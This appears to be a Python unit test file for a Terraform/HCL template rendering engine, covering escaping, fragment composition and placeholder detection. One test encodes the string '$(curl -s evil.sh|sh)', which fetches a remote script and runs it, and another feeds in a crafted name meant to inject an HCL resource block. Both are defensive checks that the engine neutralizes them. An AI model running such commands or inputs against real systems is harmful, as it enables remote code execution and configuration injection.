"""Unit tests for the Substitution Engine."""

import base64
import re

import pytest

from tfportal.interfaces.template import ConditionalFragment, RenderError, TemplateVariant
from tfportal.strategies.template_engine.models import ParameterRecord
from tfportal.strategies.template_engine.renderer import (
    SubstitutionEngine,
    base64_text,
    compose,
    escape_hcl_string,
    find_placeholders,
    find_slots,
    hcl_finalize,
    heredoc_lines,
)

SIMPLE_BODY = """\
resource "aws_instance" "web" {
  instance_type = "{{ instance_size }}"
  {# fragment: user_data #}

  tags = {
    Name = "{{ resource_name }}"
  }
}
"""

BOOTSTRAP = 'user_data = "hello {{ resource_name }}"\n'


def make_record(**overrides) -> ParameterRecord:
    values = {
        "resource_name": "web1",
        "provider": "aws",
        "topology": "single-instance",
        "instance_size": "t3.micro",
        "region": "ap-southeast-1",
        "security_group_name": "sg-web",
        "subnet_cidr": "172.31.250.0/24",
    }
    values.update(overrides)
    return ParameterRecord(**values)


@pytest.fixture
def variant():
    return TemplateVariant(
        provider="aws",
        topology="single-instance",
        body=SIMPLE_BODY,
        fragments=(
            ConditionalFragment(
                slot="user_data", flag="install_bootstrap_script", source=BOOTSTRAP
            ),
        ),
    )


@pytest.fixture
def engine():
    return SubstitutionEngine(constants={"state_bucket": "bucket-1"})


# =============================================================================
# Value Formatting Tests
# =============================================================================


class TestValueFormatting:
    """Test suite for HCL value formatting."""

    def test_booleans_are_bare(self):
        assert hcl_finalize(True) == "true"
        assert hcl_finalize(False) == "false"

    def test_integers_are_bare(self):
        assert hcl_finalize(3) == "3"

    def test_strings_are_escaped(self):
        assert hcl_finalize('a"b') == 'a\\"b'

    def test_escape_sequences(self):
        """Test that quotes, backslashes, newlines and interpolation are neutralized."""
        assert escape_hcl_string("a\\b") == "a\\\\b"
        assert escape_hcl_string("line1\nline2") == "line1\\nline2"
        assert escape_hcl_string("${var.x}") == "$${var.x}"
        assert escape_hcl_string("%{ if x }") == "%%{ if x }"

    def test_base64_text_is_inert(self):
        """Test that encoded text carries no shell or HCL metacharacters."""
        raw = "$(curl -s evil.sh|sh)`id`${HOME}\nEOF"

        encoded = base64_text(raw)

        assert re.fullmatch(r"[A-Za-z0-9+/=]*", encoded)
        assert base64.b64decode(encoded).decode("utf-8") == raw


# =============================================================================
# Composition Tests
# =============================================================================


class TestComposition:
    """Test suite for fragment splicing."""

    def test_find_slots(self, variant):
        assert find_slots(variant.body) == ["user_data"]

    def test_absent_fragment_removes_slot_line(self, variant):
        """Test that an inactive slot leaves no line behind."""
        source = compose(variant, frozenset())

        assert "fragment" not in source
        assert '"{{ instance_size }}"\n\n  tags = {' in source

    def test_present_fragment_is_indented(self, variant):
        """Test that an active fragment takes the slot's indentation."""
        source = compose(variant, frozenset({"user_data"}))

        assert '\n  user_data = "hello {{ resource_name }}"\n\n  tags' in source
        assert "{#" not in source

    def test_slot_without_fragment_fails(self):
        orphan = TemplateVariant(
            provider="aws", topology="single-instance", body="{# fragment: missing #}\n"
        )

        with pytest.raises(RenderError):
            compose(orphan, frozenset())

    def test_find_placeholders_tracks_quotes(self):
        """Test that placeholder positions are classified as quoted or bare."""
        source = 'a = "{{ region }}a"\nb = {{ capacity }}\nc = ["{{ subnet_cidr }}"]\n'

        placeholders = find_placeholders(source)

        assert [(p.name, p.quoted, p.lineno) for p in placeholders] == [
            ("region", True, 1),
            ("capacity", False, 2),
            ("subnet_cidr", True, 3),
        ]

    def test_find_placeholders_ignores_escaped_quotes(self):
        source = 'a = "x\\" {{ region }}"\n'

        assert find_placeholders(source)[0].quoted is True

    def test_heredoc_lines(self):
        source = 'a = "x"\nb = base64encode(<<-EOF\n  one\n  two\n  EOF\n)\nc = 1\n'

        assert heredoc_lines(source) == frozenset({3, 4})

    def test_find_placeholders_in_heredoc(self):
        """Test that shell quotes inside a heredoc are not read as HCL strings."""
        source = (
            'name = "{{ resource_name }}"\n'
            "user_data = <<-EOF\n"
            '  echo "{{ resource_name }}"\n'
            "  echo '{{ resource_name | b64 }}'\n"
            "  EOF\n"
        )

        placeholders = find_placeholders(source)

        assert [(p.quoted, p.heredoc, p.filters, p.lineno) for p in placeholders] == [
            (True, False, (), 1),
            (False, True, (), 3),
            (False, True, ("b64",), 4),
        ]


# =============================================================================
# Rendering Tests
# =============================================================================


class TestSubstitutionEngine:
    """Test suite for SubstitutionEngine."""

    def test_render_is_deterministic(self, engine, variant):
        """Test that identical inputs produce byte-identical documents."""
        record = make_record(install_bootstrap_script=True)

        first = engine.render(variant, record)
        second = engine.render(variant, record)

        assert first.text == second.text
        assert first.variant == "aws/single-instance"

    def test_fragment_omitted_when_flag_false(self, engine, variant):
        text = engine.render(variant, make_record()).text

        assert "user_data" not in text
        assert "hello" not in text
        assert "{#" not in text

    def test_fragment_rendered_when_flag_true(self, engine, variant):
        text = engine.render(variant, make_record(install_bootstrap_script=True)).text

        assert 'user_data = "hello web1"' in text

    def test_no_placeholder_syntax_remains(self, engine, variant):
        text = engine.render(variant, make_record(install_bootstrap_script=True)).text

        assert "{{" not in text
        assert "}}" not in text

    def test_string_values_are_escaped(self, engine, variant):
        """Test that a crafted name cannot break out of its quoted position."""
        record = make_record(resource_name='x" } resource "evil" "y" {')

        text = engine.render(variant, record).text

        assert 'resource "evil"' not in text
        assert 'Name = "x\\" } resource \\"evil\\" \\"y\\" {"' in text

    def test_numeric_values_are_bare(self, engine):
        numeric = TemplateVariant(
            provider="aws",
            topology="ha-cluster",
            body="min = {{ capacity }}\nmax = {{ max_capacity }}\n",
        )

        text = engine.render(numeric, make_record(capacity=3)).text

        assert re.search(r"^min = 3$", text, re.MULTILINE)
        assert re.search(r"^max = 6$", text, re.MULTILINE)

    def test_constants_are_bound(self, engine):
        backend = TemplateVariant(
            provider="aws", topology="single-instance", body='bucket = "{{ state_bucket }}"\n'
        )

        assert engine.render(backend, make_record()).text == 'bucket = "bucket-1"\n'

    def test_unresolved_placeholder_fails(self, engine):
        """Test that a placeholder with no matching field aborts rendering."""
        broken = TemplateVariant(
            provider="aws", topology="single-instance", body='name = "{{ nonexistent }}"\n'
        )

        with pytest.raises(RenderError):
            engine.render(broken, make_record())

    def test_unknown_fragment_flag_fails(self, engine):
        broken = TemplateVariant(
            provider="aws",
            topology="single-instance",
            body="{# fragment: extra #}\n",
            fragments=(ConditionalFragment(slot="extra", flag="missing_flag", source="x\n"),),
        )

        with pytest.raises(RenderError):
            engine.render(broken, make_record())
